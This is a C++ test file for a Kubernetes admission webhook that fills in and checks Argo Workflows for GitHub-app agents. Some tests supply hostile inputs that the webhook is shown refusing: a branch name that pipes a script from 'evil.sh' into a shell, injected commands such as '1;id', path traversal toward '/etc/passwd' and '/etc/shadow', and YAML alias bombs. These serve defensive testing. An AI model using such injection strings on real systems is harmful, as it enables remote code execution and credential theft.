#include <catch2/catch.hpp>

#include "decision/decide.h"
#include "test_support.h"

using coderun::decision::decide;
using coderun::decision::Decision;
using coderun::decision::Phase;
using coderun::testing::create_request;
using coderun::testing::FakePrompts;
using coderun::testing::params;
using coderun::testing::read_event_fixture;
using coderun::testing::workflow_with;
using nlohmann::json;

namespace {

const coderun::policy::Policy kPolicy{};
const FakePrompts kAllPrompts({"/etc/agents/rex_system-prompt.md",
                               "/etc/agents/clippy_system-prompt.md",
                               "/etc/agents/default_system-prompt.md"});

Decision mutate(const json& object, const coderun::policy::PromptCatalog& prompts = kAllPrompts) {
  return decide(create_request(object), kPolicy, prompts, Phase::kMutate);
}

// workflowPlumbing: podSpecPatch, for the tests of the Workflow-level plumbing.
coderun::policy::Policy pod_spec_patch_policy() {
  coderun::policy::Policy policy;
  policy.workflow_plumbing = coderun::policy::WorkflowPlumbing::kPodSpecPatch;
  return policy;
}
const coderun::policy::Policy kPodSpecPatchPolicy = pod_spec_patch_policy();

Decision mutate_plumbed(const json& object) {
  return decide(create_request(object), kPodSpecPatchPolicy, kAllPrompts, Phase::kMutate);
}

json apply_patch(const json& object, const Decision& decision) {
  return decision.response.patch.empty() ? object
                                         : object.patch(decision.response.patch_operations());
}

std::map<std::string, std::string> arguments_of(const json& workflow) {
  std::map<std::string, std::string> out;
  for (const auto& parameter : workflow["spec"]["arguments"]["parameters"]) {
    out[parameter["name"]] = parameter.value("value", "");
  }
  return out;
}

}  // namespace

TEST_CASE("a pull_request event fills every argument, labels and the sources annotation") {
  const json workflow = workflow_with(params(
      {{"github-app", "clippy"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  CHECK(decision.outcome == "mutated");
  const json result = apply_patch(workflow, decision);
  const auto arguments = arguments_of(result);
  CHECK(arguments.at("owner") == "Codertocat");
  CHECK(arguments.at("repo") == "Hello-World");
  CHECK(arguments.at("repoFullName") == "Codertocat/Hello-World");
  CHECK(arguments.at("ref") == "changes");
  CHECK(arguments.at("sha") == "ec26c3e57ca3a959ca5aad62de7213c562f8c821");
  CHECK(arguments.at("prNumber") == "2");
  CHECK(arguments.count("issueNumber") == 0);
  CHECK(arguments.at("systemPromptPath") == "/etc/agents/clippy_system-prompt.md");
  CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "clippy");
  CHECK(result["metadata"]["labels"]["taskmaster.io/repo"] == "Codertocat.Hello-World");
  CHECK(result["metadata"]["labels"]["taskmaster.io/pr-number"] == "2");
  const json sources = json::parse(
      result["metadata"]["annotations"]["taskmaster.io/value-sources"].get<std::string>());
  CHECK(sources["ref"] == "event:.pull_request.head.ref");
  CHECK(sources["systemPromptPath"] == "prompts:clippy");
  CHECK(decision.response.audit_annotations.at("decision") == "mutated");
  CHECK(decision.response.audit_annotations.at("repo") == "Codertocat/Hello-World");
}

TEST_CASE("mutating the mutated Workflow again gives an empty patch") {
  for (const char* fixture :
       {"pull_request.opened", "push.branch", "issue_comment.created.on-pull-request",
        "pull_request.opened.from-fork", "release.published"}) {
    INFO(fixture);
    const json workflow = workflow_with(
        params({{"github-app", "rex"}, {"event", read_event_fixture(fixture).dump()}}));
    const auto first = mutate(workflow);
    REQUIRE(first.response.allowed);
    const json once = apply_patch(workflow, first);
    const auto second = mutate(once);
    CHECK(second.response.allowed);
    CHECK(second.response.patch.empty());
    CHECK(second.outcome == "unchanged");
    CHECK(second.response.warnings.empty());
  }
}

TEST_CASE("what the user passed with -p wins, with a warning when the event disagrees") {
  const json workflow =
      workflow_with(params({{"github-app", "rex"},
                            {"ref", "release-1"},
                            {"event", read_event_fixture("pull_request.opened").dump()}}));
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  const auto arguments = arguments_of(apply_patch(workflow, decision));
  CHECK(arguments.at("ref") == "release-1");
  CHECK(arguments.at("repoFullName") == "Codertocat/Hello-World");
  REQUIRE(decision.response.warnings.size() == 1);
  CHECK_THAT(
      decision.response.warnings[0],
      Catch::Contains("'release-1' set by the user is kept") && Catch::Contains("'changes'"));
}

TEST_CASE("a repository set by the user keeps the event's revision out") {
  const json workflow =
      workflow_with(params({{"github-app", "rex"},
                            {"repoFullName", "acme/tools"},
                            {"event", read_event_fixture("pull_request.opened").dump()}}));
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  const auto arguments = arguments_of(apply_patch(workflow, decision));
  CHECK(arguments.at("owner") == "acme");
  CHECK(arguments.at("repo") == "tools");
  CHECK(arguments.at("ref") == "main");  // not the event's "changes", a branch of another repo
  CHECK(arguments.count("prNumber") == 0);
  CHECK_THAT(decision.response.warnings.at(0), Catch::Contains("not used"));
}

TEST_CASE("an empty parameter is filled in place; a valueFrom parameter is left alone") {
  json parameters = params(
      {{"github-app", "rex"}, {"ref", ""}, {"event", read_event_fixture("push.branch").dump()}});
  parameters.push_back(
      {{"name", "sha"}, {"valueFrom", {{"configMapKeyRef", {{"name", "c"}, {"key", "k"}}}}}});
  const json workflow = workflow_with(parameters);
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  CHECK(decision.response.patch_operations().at(0) ==
        json({{"op", "replace"},
              {"path", "/spec/arguments/parameters/1/value"},
              {"value", "master"}}));
  const json result = apply_patch(workflow, decision);
  CHECK(result["spec"]["arguments"]["parameters"][3].contains("valueFrom"));
  CHECK_FALSE(result["spec"]["arguments"]["parameters"][3].contains("value"));
}

TEST_CASE("labels and annotations the user set are never replaced") {
  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "acme/tools"}}));
  workflow["metadata"]["labels"] = {{"taskmaster.io/repo", "mine"}, {"team", "a"}};
  workflow["metadata"]["annotations"] = {{"taskmaster.io/value-sources", "{}"}};
  const auto decision = mutate(workflow);
  const json result = apply_patch(workflow, decision);
  CHECK(result["metadata"]["labels"]["taskmaster.io/repo"] == "mine");
  CHECK(result["metadata"]["labels"]["team"] == "a");
  CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "rex");
  CHECK(result["metadata"]["annotations"]["taskmaster.io/value-sources"] == "{}");
}

TEST_CASE("the seed's three error messages, word for word") {
  SECTION("an app outside the allow-list") {
    const auto decision =
        mutate(workflow_with(params({{"github-app", "invalid-app"}, {"repoFullName", "a/b"}})));
    CHECK_FALSE(decision.response.allowed);
    CHECK(decision.response.code == 403);
    CHECK(decision.response.message ==
          "Error: Invalid github-app 'invalid-app'. Must be one of: rex, clippy, qa, triage, "
          "security");
    CHECK(decision.rule == "github-app");
  }
  SECTION("no github-app at all") {
    json workflow = workflow_with(params({{"repoFullName", "a/b"}}));
    const auto decision = mutate(workflow);
    CHECK(decision.response.message ==
          "Error: Invalid github-app ''. Must be one of: rex, clippy, qa, triage, security");
  }
  SECTION("no repository anywhere") {
    const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"event", "{}"}})));
    CHECK_FALSE(decision.response.allowed);
    CHECK(
        decision.response.message ==
        "Error: Repository information not available from event payload and no git context found");
    CHECK(decision.rule == "repository");
  }
  SECTION("no prompt for the app and no default") {
    const FakePrompts none({});
    const auto decision =
        mutate(workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}})), none);
    CHECK_FALSE(decision.response.allowed);
    CHECK(decision.response.message ==
          "Error: System prompt not found at /etc/agents/rex_system-prompt.md or "
          "/etc/agents/default_system-prompt.md");
  }
}

TEST_CASE("an app without its own prompt gets the default prompt") {
  const json workflow = workflow_with(params({{"github-app", "triage"}, {"repoFullName", "a/b"}}));
  const auto arguments = arguments_of(apply_patch(workflow, mutate(workflow)));
  CHECK(arguments.at("systemPromptPath") == "/etc/agents/default_system-prompt.md");
}

TEST_CASE("a prompt path set by the user must exist inside the prompts directory") {
  auto with_prompt = [](const std::string& path) {
    return workflow_with(
        params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"systemPromptPath", path}}));
  };
  CHECK(mutate(with_prompt("/etc/agents/rex_system-prompt.md")).response.allowed);
  CHECK(mutate(with_prompt("/etc/agents/missing.md")).response.message ==
        "Error: System prompt not found at /etc/agents/missing.md");
  CHECK_THAT(mutate(with_prompt("/etc/passwd")).response.message,
             Catch::Contains("not inside /etc/agents"));
  CHECK_THAT(mutate(with_prompt("/etc/agents/../passwd")).response.message,
             Catch::Contains("'..'"));
}

TEST_CASE("a malformed event gives defaults and a warning, never a failure") {
  for (const char* event : {"{not json", "[1,2,3]", "\"a string\"", "12"}) {
    INFO(event);
    const json workflow = workflow_with(
        params({{"github-app", "rex"}, {"repoFullName", "acme/tools"}, {"event", event}}));
    const auto decision = mutate(workflow);
    REQUIRE(decision.response.allowed);
    REQUIRE_FALSE(decision.response.warnings.empty());
    CHECK_THAT(decision.response.warnings[0], Catch::Contains("ignored"));
    CHECK(arguments_of(apply_patch(workflow, decision)).at("ref") == "main");
    CHECK(decision.resolution.event_problem);
  }
}

TEST_CASE("an attacker-chosen branch name is denied, naming the field and its source") {
  auto event = read_event_fixture("pull_request.opened");
  event["pull_request"]["head"]["ref"] = "x$(curl evil.sh|sh)";
  const auto decision =
      mutate(workflow_with(params({{"github-app", "rex"}, {"event", event.dump()}})));
  CHECK_FALSE(decision.response.allowed);
  CHECK(decision.rule == "safe-value:ref");
  CHECK_THAT(decision.response.message,
             Catch::StartsWith(
                 "Error: Invalid ref 'x$(curl evil.sh|sh)' (from event:.pull_request.head.ref)"));
}

TEST_CASE("a value the user passed is checked the same way") {
  const auto decision = mutate(workflow_with(
      params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"prNumber", "1;id"}})));
  CHECK_FALSE(decision.response.allowed);
  CHECK(decision.rule == "safe-value:prNumber");
}

TEST_CASE("an Argo Events envelope works like the body itself") {
  const json envelope = {{"headers", {{"X-Github-Event", {"push"}}}},
                         {"body", read_event_fixture("push.branch")}};
  const json workflow = workflow_with(params({{"github-app", "qa"}, {"event", envelope.dump()}}));
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  CHECK(arguments_of(apply_patch(workflow, decision)).at("ref") == "master");
  CHECK(decision.response.audit_annotations.at("event-type") == "push");
}

TEST_CASE("what the webhook does not serve is allowed untouched") {
  json other = workflow_with(params({{"message", "hi"}}));
  other["spec"]["workflowTemplateRef"]["name"] = "hello-world";
  auto decision = mutate(other);
  CHECK(decision.response.allowed);
  CHECK_FALSE(decision.served);
  CHECK(decision.response.patch.empty());

  json pod = {{"apiVersion", "v1"}, {"kind", "Pod"}, {"metadata", {{"name", "p"}}}};
  auto request = create_request(pod);
  request.kind.group = "";
  CHECK(decide(request, kPolicy, kAllPrompts, Phase::kMutate).outcome == "ignored");

  auto removal = create_request(workflow_with(params({{"github-app", "nope"}})));
  removal.operation = "DELETE";
  CHECK(decide(removal, kPolicy, kAllPrompts, Phase::kMutate).response.allowed);
}

TEST_CASE("a Workflow with a github-app argument is served whatever its template") {
  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  workflow["spec"].erase("workflowTemplateRef");
  const auto decision = mutate(workflow);
  CHECK(decision.served);
  CHECK(decision.outcome == "mutated");
}

TEST_CASE("arguments are created when the Workflow has none") {
  json workflow = workflow_with(json::array());
  workflow["spec"].erase("arguments");
  const auto decision = mutate(workflow);  // served by template name, but no github-app
  CHECK_FALSE(decision.response.allowed);

  json minimal = {{"apiVersion", "argoproj.io/v1alpha1"},
                  {"kind", "Workflow"},
                  {"spec",
                   {{"arguments",
                     {{"parameters", params({{"github-app", "rex"}, {"repoFullName", "a/b"}})}}}}}};
  const auto filled = mutate(minimal);
  REQUIRE(filled.response.allowed);
  const json result = apply_patch(minimal, filled);
  CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "rex");
}

TEST_CASE("the validating pass checks the same rules and never patches") {
  const json workflow = workflow_with(
      params({{"github-app", "clippy"}, {"event", read_event_fixture("issues.opened").dump()}}));
  const auto validated = decide(create_request(workflow), kPolicy, kAllPrompts, Phase::kValidate);
  CHECK(validated.response.allowed);
  CHECK(validated.response.patch.empty());
  const auto denied = decide(create_request(workflow_with(params({{"github-app", "bad"}}))),
                             kPolicy, kAllPrompts, Phase::kValidate);
  CHECK_FALSE(denied.response.allowed);
}

TEST_CASE("a request without an object is a clear 400; a Workflow whose spec is not an object is not served") {
  auto request = create_request(workflow_with(params({{"github-app", "rex"}})));
  request.object.reset();
  auto decision = decide(request, kPolicy, kAllPrompts, Phase::kMutate);
  CHECK_FALSE(decision.response.allowed);
  CHECK(decision.response.code == 400);

  json workflow = workflow_with(params({{"github-app", "rex"}}));
  json broken = {{"apiVersion", "argoproj.io/v1alpha1"},
                 {"kind", "Workflow"},
                 {"spec", "oops"},
                 {"metadata", {{"name", "x"}}}};
  // Not served (no template, no github-app argument it can read): allowed untouched.
  const auto untouched = mutate(broken);
  CHECK(untouched.response.allowed);
  CHECK(untouched.response.patch.empty());
}

TEST_CASE("parameter values of other JSON types") {
  json parameters = params({{"github-app", "rex"}, {"repoFullName", "a/b"}});
  parameters.push_back({{"name", "prNumber"}, {"value", 12}});
  parameters.push_back({{"name", "issueNumber"}, {"value", {{"x", 1}}}});
  const json workflow = workflow_with(parameters);
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  CHECK(decision.resolution.find("prNumber")->value == "12");
  CHECK_THAT(decision.response.warnings.at(0), Catch::Contains("issueNumber is a object"));
  CHECK(decision.resolution.find("issueNumber") == nullptr);
}

TEST_CASE("a served Workflow gets the four volumes and the gh-token plumbing in podSpecPatch") {
  const json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  const json result = apply_patch(workflow, mutate_plumbed(workflow));
  CHECK(result["spec"]["volumes"].size() == 4);
  const json pod = json::parse(result["spec"]["podSpecPatch"].get<std::string>());
  CHECK(pod["initContainers"][0]["name"] == "gh-token");
  CHECK(pod["initContainers"][0]["env"][0]["valueFrom"]["secretKeyRef"]["name"] ==
        "github-app-rex");
  CHECK(pod["containers"][0]["name"] == "main");
  CHECK(pod["containers"][0]["volumeMounts"].size() == 4);
}

TEST_CASE("a podSpecPatch the user wrote (YAML) is merged into, never replaced") {
  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  workflow["spec"]["podSpecPatch"] =
      "containers:\n  - name: main\n    resources:\n      limits:\n        memory: "
      "\"{{workflow.parameters.mem-limit}}\"\n";
  workflow["spec"]["volumes"] =
      json::array({{{"name", "workspace"}, {"persistentVolumeClaim", {{"claimName", "x"}}}}});
  const auto decision = mutate_plumbed(workflow);
  const json result = apply_patch(workflow, decision);
  const json pod = json::parse(result["spec"]["podSpecPatch"].get<std::string>());
  CHECK(pod["containers"][0]["resources"]["limits"]["memory"] ==
        "{{workflow.parameters.mem-limit}}");
  CHECK(pod["containers"][0]["volumeMounts"].size() == 4);
  CHECK(pod["initContainers"][0]["name"] == "gh-token");
  CHECK(result["spec"]["volumes"].size() == 4);
  CHECK(result["spec"]["volumes"][0]["persistentVolumeClaim"]["claimName"] == "x");
  CHECK(mutate_plumbed(result).response.patch.empty());
}

TEST_CASE("a podSpecPatch that cannot be read is refused, not passed on without the plumbing") {
  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  workflow["spec"]["podSpecPatch"] = "containers: [unclosed";
  const auto decision = mutate_plumbed(workflow);
  CHECK_FALSE(decision.response.allowed);
  CHECK(decision.rule == "podSpecPatch");
  CHECK_THAT(decision.response.message,
             Catch::StartsWith("Error: spec.podSpecPatch holds invalid YAML"));
}

namespace {

// The podSpecPatch the webhook writes back for `text`, parsed; null when it was refused.
json merged_pod_patch(const std::string& text, std::string* refusal = nullptr) {
  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  workflow["spec"]["podSpecPatch"] = text;
  const auto decision = mutate_plumbed(workflow);
  if (!decision.response.allowed) {
    if (refusal != nullptr) *refusal = decision.response.message;
    return nullptr;
  }
  return json::parse(apply_patch(workflow, decision)["spec"]["podSpecPatch"].get<std::string>());
}

}  // namespace

TEST_CASE("a YAML podSpecPatch keeps the meaning sigs.k8s.io/yaml gives it (YAML 1.1)") {
  const json pod = merged_pod_patch(
      "hostNetwork: yes\nenableServiceLinks: off\nterminationGracePeriodSeconds: 010\n"
      "priority: 0x10\nactiveDeadlineSeconds: 1_000\nnodeSelector: {disk: ssd, 'on': \"1\"}\n"
      "containers:\n- name: main\n  ports: [{containerPort: 80.0}]\n"
      "  args: [\"yes\", 1.5, 1e3, ~, 09, 2001-12-14, .5, -0b11]\n");
  CHECK(pod["hostNetwork"] == true);
  CHECK(pod["enableServiceLinks"] == false);
  CHECK(pod["terminationGracePeriodSeconds"] == 8);  // octal, as go-yaml v2 reads it
  CHECK(pod["priority"] == 16);
  CHECK(pod["activeDeadlineSeconds"] == 1000);
  CHECK(pod["nodeSelector"]["on"] == "1");
  const json& main = pod["containers"][0];
  CHECK(main["ports"][0]["containerPort"].is_number_integer());  // Go writes 80.0 as 80
  CHECK(main["args"] == json::parse(R"(["yes", 1.5, 1000, null, 9, "2001-12-14", 0.5, -3])"));
  CHECK(main["volumeMounts"].size() == 4);
}

TEST_CASE("a YAML podSpecPatch whose meaning cannot be kept exactly is refused with the reason") {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"a: &x [1]\nb: *x\n", "anchor"},
      {"base: &b {x: 1}\nc:\n  <<: *b\n", "anchor"},
      {"c:\n  <<: {x: 1}\n", "merge key"},
      {"a: !!str 10\n", "tag"},
      {"a: .inf\n", "infinite"},
      {"1.5: a\n", "float or null"},
      {"a: 1\na: 2\n", "twice"},
      {"a: 1\n---\nb: 2\n", "several YAML documents"},
      {"containers:\n- name: main\n  resources: {limits: {cpu: {{inputs.parameters.cpu}}}}\n",
       "sequence or a mapping"},
      {"containers:\n- name: main\n  image: repo/{{workflow.parameters.tag}}\n", "Argo expression"},
      {"containers:\n- name: main\n  args: ['{{workflow.parameters.x}}']\n", "double quotes"},
      {"containers:\n- name: main\n  args:\n  - |\n    {{workflow.parameters.x}}\n",
       "double quotes"},
      {"- a\n- b\n", "not a mapping"},
      {"{containers: []}", "not valid JSON"},
      {std::string(300 * 1024, ' ') + "a: 1", "at most 256 KiB"},
  };
  for (const auto& [text, reason] : cases) {
    INFO(text.substr(0, 80));
    std::string refusal;
    CHECK(merged_pod_patch(text, &refusal).is_null());
    CHECK_THAT(refusal, Catch::Contains(reason));
  }
}

TEST_CASE("a JSON podSpecPatch is merged as JSON, Argo expressions in strings kept verbatim") {
  const json pod = merged_pod_patch(
      R"(  {"containers":[{"name":"main","resources":{"limits":{"cpu":"{{workflow.parameters.cpu}}"}}}]})");
  CHECK(pod["containers"][0]["resources"]["limits"]["cpu"] == "{{workflow.parameters.cpu}}");
  CHECK(pod["containers"][0]["volumeMounts"].size() == 4);
  CHECK(pod["initContainers"][0]["name"] == "gh-token");
}

TEST_CASE("hostile YAML in a podSpecPatch is refused quickly: long scalars, alias bombs, depth") {
  std::string refusal;
  // One plain scalar of 100,000 digits: read as go-yaml reads it (too large a number: a string).
  const json digits = merged_pod_patch("hostname: " + std::string(100'000, '7') + "\n");
  CHECK(digits["hostname"] == std::string(100'000, '7'));
  std::string bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n";
  for (char level = 'b'; level <= 'i'; ++level) {
    bomb += std::string(1, level) + ": &" + level + " [";
    for (int i = 0; i < 9; ++i) bomb += std::string(i ? ", *" : "*") + static_cast<char>(level - 1);
    bomb += "]\n";
  }
  CHECK(merged_pod_patch(bomb, &refusal).is_null());
  CHECK_THAT(refusal, Catch::Contains("anchors and aliases are not expanded"));
  CHECK(merged_pod_patch("a: " + std::string(100'000, '[') + std::string(100'000, ']'), &refusal)
            .is_null());
  CHECK_THAT(refusal, Catch::Contains("levels deep"));
  std::string many = "a: [";
  for (int i = 0; i < 30'000; ++i) many += "1,";
  many += "1]";
  CHECK(merged_pod_patch(many, &refusal).is_null());
  CHECK_THAT(refusal, Catch::Contains("more than 20000 YAML values"));
}

TEST_CASE("workflowPlumbing none (the default): parameters, labels, sources; no volumes, no "
          "podSpecPatch") {
  REQUIRE(kPolicy.workflow_plumbing == coderun::policy::WorkflowPlumbing::kNone);
  const json workflow = workflow_with(
      params({{"github-app", "rex"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  CHECK(decision.outcome == "mutated");
  for (const auto& operation : decision.response.patch_operations()) {
    INFO(operation.dump());
    const std::string path = operation.at("path");
    CHECK((path.rfind("/spec/arguments", 0) == 0 || path.rfind("/metadata/", 0) == 0));
  }
  const json result = apply_patch(workflow, decision);
  CHECK_FALSE(result["spec"].contains("volumes"));
  CHECK_FALSE(result["spec"].contains("podSpecPatch"));
  CHECK(arguments_of(result).at("repoFullName") == "Codertocat/Hello-World");
  CHECK(arguments_of(result).at("systemPromptPath") == "/etc/agents/rex_system-prompt.md");
  CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "rex");
  CHECK(result["metadata"]["annotations"].contains("taskmaster.io/value-sources"));
  // The same Workflow under podSpecPatch gets the plumbing: the difference is the policy's.
  const json plumbed = apply_patch(workflow, mutate_plumbed(workflow));
  CHECK(plumbed["spec"]["volumes"].size() == 4);
  CHECK(plumbed["spec"].contains("podSpecPatch"));
  CHECK(plumbed["spec"]["arguments"] == result["spec"]["arguments"]);
  CHECK(plumbed["metadata"] == result["metadata"]);
}

TEST_CASE("workflowPlumbing none leaves the user's podSpecPatch and volumes byte for byte") {
  const std::vector<std::string> patches = {
      "containers:\n  - name: main\n    resources:\n      limits:\n        memory: "
      "\"{{workflow.parameters.mem-limit}}\"\n",
      R"(  {"containers":[{"name":"main","resources":{"limits":{"cpu":"{{x}}"}}}]}  )",
      // What podSpecPatch mode refuses is not read at all: never refused, never changed.
      "containers: [unclosed",
      "a: &x [1]\nb: *x\n",
      "- a\n- b\n",
  };
  for (const auto& text : patches) {
    INFO(text);
    json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
    workflow["spec"]["podSpecPatch"] = text;
    workflow["spec"]["volumes"] =
        json::array({{{"name", "workspace"}, {"persistentVolumeClaim", {{"claimName", "x"}}}}});
    const auto decision = mutate(workflow);
    REQUIRE(decision.response.allowed);
    const json result = apply_patch(workflow, decision);
    REQUIRE(result["spec"]["podSpecPatch"].is_string());
    CHECK(result["spec"]["podSpecPatch"].get<std::string>() == text);
    CHECK(result["spec"]["volumes"] == workflow["spec"]["volumes"]);
    CHECK(mutate(result).response.patch.empty());
  }
  // Not a string either: left as it is.
  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  workflow["spec"]["podSpecPatch"] = json{{"containers", json::array()}};
  const auto decision = mutate(workflow);
  REQUIRE(decision.response.allowed);
  CHECK(apply_patch(workflow, decision)["spec"]["podSpecPatch"] == workflow["spec"]["podSpecPatch"]);
  // podSpecPatch mode reads and refuses the same text.
  json unreadable = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
  unreadable["spec"]["podSpecPatch"] = "containers: [unclosed";
  CHECK_FALSE(mutate_plumbed(unreadable).response.allowed);
  CHECK(mutate(unreadable).response.allowed);
}

TEST_CASE("mutating the mutated Workflow again gives an empty patch in both workflowPlumbing modes") {
  for (const char* fixture :
       {"pull_request.opened", "push.branch", "issue_comment.created.on-pull-request",
        "pull_request.opened.from-fork", "release.published"}) {
    INFO(fixture);
    const json workflow = workflow_with(
        params({{"github-app", "rex"}, {"event", read_event_fixture(fixture).dump()}}));
    for (const bool plumbed : {false, true}) {
      INFO("podSpecPatch mode: " << plumbed);
      const auto first = plumbed ? mutate_plumbed(workflow) : mutate(workflow);
      REQUIRE(first.response.allowed);
      REQUIRE_FALSE(first.response.patch.empty());
      const json once = apply_patch(workflow, first);
      CHECK(once["spec"].contains("podSpecPatch") == plumbed);
      CHECK(once["spec"].contains("volumes") == plumbed);
      const auto second = plumbed ? mutate_plumbed(once) : mutate(once);
      CHECK(second.response.allowed);
      CHECK(second.response.patch.empty());
      CHECK(second.outcome == "unchanged");
    }
  }
}

TEST_CASE("a Workflow's taskRef must stay relative") {
  const auto decision = mutate(workflow_with(
      params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"taskRef", "/etc/shadow"}})));
  CHECK_FALSE(decision.response.allowed);
  CHECK(decision.rule == "safe-value:taskRef");
}

TEST_CASE("a parameter the webhook reads or fills, given twice, is refused by name") {
  for (const std::string name : {"ref", "github-app", "event", "repoFullName", "taskRef"}) {
    INFO(name);
    json parameters = params({{"github-app", "rex"}, {"repoFullName", "a/b"}});
    parameters.push_back({{"name", name}, {"value", ""}});
    parameters.push_back({{"name", name}, {"value", "$(id)"}});
    const auto decision = mutate(workflow_with(parameters));
    CHECK_FALSE(decision.response.allowed);
    CHECK(decision.rule == "duplicate-parameter");
    CHECK_THAT(decision.response.message, Catch::Contains("parameter " + name + " is given more"));
  }
  // Parameters the webhook neither reads nor fills: a warning, once per name.
  json parameters = params({{"github-app", "rex"}, {"repoFullName", "a/b"}});
  for (int i = 0; i < 3; ++i) parameters.push_back({{"name", "note"}, {"value", "x"}});
  const auto decision = mutate(workflow_with(parameters));
  CHECK(decision.response.allowed);
  CHECK(std::count(decision.response.warnings.begin(), decision.response.warnings.end(),
                   "parameter note is given twice; the first is used") == 1);
}

TEST_CASE("an object too large to build is denied with the reason, not failed") {
  auto request = create_request(workflow_with(params({{"github-app", "rex"}})));
  request.object.reset();
  request.object_problem =
      "request.object is too large to decide on: JSON has more than 50000 values";
  const auto decision = decide(request, kPolicy, kAllPrompts, Phase::kMutate);
  CHECK_FALSE(decision.response.allowed);
  CHECK(decision.response.code == 413);
  CHECK(decision.response.reason == "RequestEntityTooLarge");
  CHECK_THAT(decision.response.message, Catch::StartsWith("Error: request.object is too large"));
}

TEST_CASE("a refusal quotes at most a short excerpt of the user's YAML") {
  std::string refusal;
  for (const std::string& text :
       {"a: &" + std::string(100'000, 'x') + " 1\n",
        std::string(100'000, 'k') + ": 1\n" + std::string(100'000, 'k') + ": 2\n"}) {
    CHECK(merged_pod_patch(text, &refusal).is_null());
    CHECK(refusal.size() < 1024);
  }
}
